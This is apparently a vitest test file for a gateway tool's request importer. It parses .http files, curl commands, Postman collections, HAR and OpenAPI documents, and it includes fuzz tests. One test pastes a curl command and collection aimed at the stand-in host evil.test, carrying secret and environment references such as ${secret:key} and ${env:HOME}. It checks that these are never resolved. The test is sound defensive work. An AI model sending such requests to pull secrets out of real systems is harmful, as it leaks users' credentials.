import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ReplayRequest } from '../../gateway-core/protocol/replay-request.ts'
import { importRequests } from '../../gateway-core/replay/import/import.ts'
import { resolveRequest, type Sources } from '../../gateway-core/replay/resolve.ts'

const read = (text: string, name = 'pasted') => importRequests(text, { name })
const told = (text: string, name?: string) =>
  read(text, name).problems.map(({ what, line }) => (line === undefined ? what : `${line}: ${what}`))
const headersOf = ({ headers }: ReplayRequest) => headers.map(({ name, value }) => `${name}: ${value}`)
const textOf = ({ body }: ReplayRequest) => (body?.kind === 'text' ? body.text : body)

describe('a .http file', () => {
  it('is read with names, variables, queries over lines and bodies from files', () => {
    const text = `@base = http://h
@id=7

### First one
# a comment
// @no-log
GET {{base}}/books/{{id}}
  ?page=1
  &size=2
Accept: */*

###
# @name second
# @timeout 5
POST /books HTTP/1.1
Content-Type: application/json
# X-Off: 1

{
  "a": 1
}

### third

< ./cover.png
`
    const { requests, variables, problems } = read(text, 'a.http')
    expect(problems.map(({ line, what }) => `${line}: ${what}`)).toEqual([
      '25: the script before the request is not taken',
    ])
    expect([...variables]).toEqual([
      ['base', 'http://h'],
      ['id', '7'],
    ])
    expect(requests.map(({ name, request: { method, url } }) => [name, method, url])).toEqual([
      ['First one', 'GET', '{{base}}/books/{{id}}?page=1&size=2'],
      ['second', 'POST', '/books'],
    ])
    expect(requests[1]!.request).toMatchObject({
      headers: [
        { name: 'Content-Type', value: 'application/json' },
        { name: 'X-Off', value: '1', off: true },
      ],
      body: { kind: 'text', text: '{\n  "a": 1\n}' },
      settings: { timeoutMs: 5000 },
    })
  })

  it('names scripts, lines that are none, and directives that nobody knows', () => {
    const text = 'GET /a b c\n###\n# @magic\n< {%\n x\n%}\nGET /\nnonsense\n\n> {%\n client.test()\n%}\n'
    expect(told(text, 'a.http')).toEqual([
      '1: this is no request line',
      '3: @magic is not known, and not taken',
      '4: the script before the request is not taken',
      '8: this is no header line',
      '10: the script after the request is not taken',
    ])
  })

  it('is nothing without a request', () => {
    expect(told('', 'a.http')).toEqual(['it holds no request'])
  })
})

describe('what somebody else wrote', () => {
  const given: string[] = []
  const sources: Sources = {
    variables: new Map(),
    sealed: () => undefined,
    reference: async (kind, name) => {
      given.push(`${kind} ${name}`)
      return 'a secret of mine'
    },
    file: async () => Buffer.alloc(0),
    recorded: async () => Buffer.alloc(0),
  }
  const sent = async (text: string) => resolveRequest(read(text).requests[0]!.request, sources)

  it('gets no secret of whoever sends it', async () => {
    const hostile = '${secret:key} ${env:HOME} $${secret:key} $$${env:HOME} ${x} $${y}'
    const commands = [
      `curl http://evil.test/ -H 'X: ${hostile}' --data-raw '${hostile}'`,
      JSON.stringify({
        item: [
          {
            request: {
              method: 'POST',
              url: 'http://evil.test',
              header: [{ key: 'X', value: hostile }],
              body: { mode: 'raw', raw: hostile },
            },
          },
        ],
      }),
    ]
    for (const text of commands) {
      const { fields, body } = await sent(text)
      expect([fields[0]![1], body!.toString()]).toEqual([hostile, hostile])
    }
    await expect(sent("curl 'http://evil.test/?{{$processEnv HOME}}{{$env.HOME}}'")).rejects.toMatchObject({
      message: 'the URL uses {{HOME}}, which has no value',
    })
    expect(given).toEqual([])
  })

  it('keeps references in a .http file, which is a form of ours', () => {
    expect(read('GET /\nA: ${secret:key}\n', 'a.http').requests[0]!.request.headers[0]!.value).toBe('${secret:key}')
  })
})

describe('other texts', () => {
  it('a HAR is read, and entries that are none are named', () => {
    const entries = [
      {
        request: {
          method: 'POST',
          url: 'https://h/a?b',
          headers: [
            { name: 'A', value: 'b' },
            { name: ':path', value: '/' },
          ],
          postData: { text: 'x=1' },
        },
      },
      { request: { method: 'GET', url: 'ftp://h' } },
      null,
      { request: { method: 'CONNECT', url: 'https://h:443' } },
      {
        request: {
          method: 'POST',
          url: 'https://h/f',
          postData: { mimeType: 'multipart/form-data', params: [{ name: 'f' }] },
        },
      },
    ]
    const { requests, problems } = read(JSON.stringify({ log: { entries } }))
    expect(requests.map(({ request }) => [request.method, request.url, headersOf(request), textOf(request)])).toEqual([
      ['POST', 'https://h/a?b', ['Host: h', 'A: b'], 'x=1'],
      ['POST', 'https://h/f', ['Host: h'], null],
    ])
    expect(problems.map(({ what }) => what)).toEqual([
      expect.stringMatching(/^entry 2 is left out/),
      expect.stringMatching(/^entry 3 is left out/),
      'entry 4 is left out: it only opens a tunnel',
      'the body of entry 5 (POST /f) is not in the file',
    ])
  })

  it('of an OpenAPI document each operation is filled', () => {
    const file = join(import.meta.dirname, '../../samples/bookshop/openapi/books.yaml')
    const { requests, kind, problems } = importRequests(readFileSync(file, 'utf8'), { name: 'books.yaml' })
    expect([kind, problems]).toEqual(['openapi', []])
    expect(requests.length).toBeGreaterThan(10)
    for (const { request } of requests) {
      expect(request.url).not.toMatch(/[{}]/)
      if (request.body?.kind === 'text' && headersOf(request).some((line) => line.includes('json')))
        JSON.parse(request.body.text)
    }
  })

  it.each([
    ['{"log": [}', '1: this is no JSON'],
    ['{"a":\n1,,}', '2: this is no JSON'],
    ['{"a": 1}', 'nobody knows what this JSON is'],
    ['{"log": {}}', 'it has no list log.entries'],
  ])('%s is named: %s', (text, expected) => {
    expect(told(text)[0]).toContain(expected)
  })

  it('never break, whatever is pasted', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc.string({ maxLength: 100 }).map((text) => `curl ${text}`),
          fc.jsonValue().map((value) => JSON.stringify({ item: value, log: value })),
          fc.jsonValue().map((value) => JSON.stringify({ item: [{ request: value, event: value, auth: value }] })),
        ),
        fc.constantFrom('pasted', 'a.http', 'a.sh', 'a.yaml'),
        (text, name) => {
          expect(read(text, name).problems).toBeInstanceOf(Array)
        },
      ),
      { numRuns: 1500 },
    )
  })
})
